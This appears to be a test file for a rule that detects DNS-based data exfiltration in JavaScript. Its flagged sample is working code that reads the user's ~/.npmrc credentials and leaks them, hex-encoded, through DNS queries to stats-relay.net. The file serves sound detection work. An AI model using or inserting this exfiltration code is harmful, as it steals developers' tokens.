// A collecting function and a sending one: the sender is handed the data and looks each encoded chunk up.
const fs = require('fs');
const os = require('os');
const dns = require('dns');

function collect() {
  return fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
}

function send(buf) {
  const chunks = buf.toString('hex').match(/.{1,60}/g) || [];
  chunks.forEach((c, i) => {
    // ruleid: js_dns_exfiltration
    dns.resolve4(`${c}.${i}.q.stats-relay.net`, () => {});
  });
}

send(Buffer.from(collect()));

function warm(names) {
  names.forEach((n) => {
    // ok: js_dns_exfiltration
    dns.lookup(`${n}.svc.cluster.local`, () => {});
  });
}

warm(['api', 'db']);
